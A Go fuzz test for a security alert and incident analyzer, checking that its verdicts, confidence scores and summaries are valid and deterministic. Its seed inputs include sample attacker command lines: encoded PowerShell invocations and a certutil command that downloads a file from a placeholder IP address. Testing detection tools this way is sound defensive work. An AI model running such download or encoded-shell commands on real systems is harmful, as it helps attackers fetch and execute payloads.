package builtin

import (
	"encoding/json"
	"slices"
	"testing"
	"time"
)

func FuzzAnalyzeAlert(f *testing.F) {
	for _, fx := range fixtures() {
		a := fx.alert
		e := Entity{}
		if len(a.Entities) > 0 {
			e = a.Entities[len(a.Entities)-1]
		}
		f.Add(a.Title, a.Description, a.Severity, e.Type, e.Value, string(a.Raw), a.Occurrences, fx.ctx.History.FalsePositive)
	}
	f.Add("powershell -enc ====", "pwsh -e AAAA", "", "url", "http://[::1", `{"commandline":[{"a":`, -5, -3)
	f.Add("[SAMPLE] x", "certutil -urlcache -f http://198.51.100.1/a", "high", "domain", "examp1e.com", `{"ja3":{"hash":{"x":["y"]}},"link":["http://a.b/c"],"k8s_ns_name":"prod"}`, 1, 0)
	f.Fuzz(func(t *testing.T, title, desc, sev, typ, value, rawJSON string, occ, fp int) {
		a := Alert{
			ID: "x", Title: title, Description: desc, Severity: sev, Source: value,
			Tags: []string{title, "malware"}, Entities: []Entity{{Type: typ, Value: value}, {Type: "ipv4", Value: value}},
			Raw: json.RawMessage(rawJSON), Occurrences: occ, Fingerprint: desc,
			FirstSeenAt: time.Unix(int64(occ), 0), LastSeenAt: time.Unix(int64(fp), 0),
		}
		c := Context{History: DispositionHistory{FalsePositive: fp, TruePositive: occ, Benign: 3}, Related: []Related{{ID: title, Kind: "alert"}},
			Profile: AssetProfile{Domains: []string{value, "example.com"}, Networks: []string{value, "10.0.0.0/8"}, AdminHosts: []string{value}, AdminAccounts: []string{title}, Scanners: []string{desc}}}
		an := AnalyzeAlert(a, c)
		if !slices.Contains(verdictRank, an.Verdict) || an.Confidence < 0 || an.Confidence > 1 || severityIndex(an.Severity) < 0 {
			t.Fatalf("invalid analysis: %s %v %s", an.Verdict, an.Confidence, an.Severity)
		}
		if len(an.NextSteps) == 0 || an.Summary.WhatHappened == "" {
			t.Fatalf("incomplete analysis: %+v", an)
		}
		again, _ := json.Marshal(AnalyzeAlert(a, c))
		if first, _ := json.Marshal(an); string(first) != string(again) {
			t.Fatal("not deterministic")
		}
		ia := AnalyzeIncident(Incident{Title: title, Severity: sev, Alerts: []Alert{a, a}, Timeline: []Event{{Kind: typ, Title: desc}}}, IncidentContext{})
		if !slices.Contains(verdictRank, ia.Verdict) || ia.Confidence < 0 || ia.Confidence > 1 {
			t.Fatalf("invalid incident analysis: %s %v", ia.Verdict, ia.Confidence)
		}
	})
}
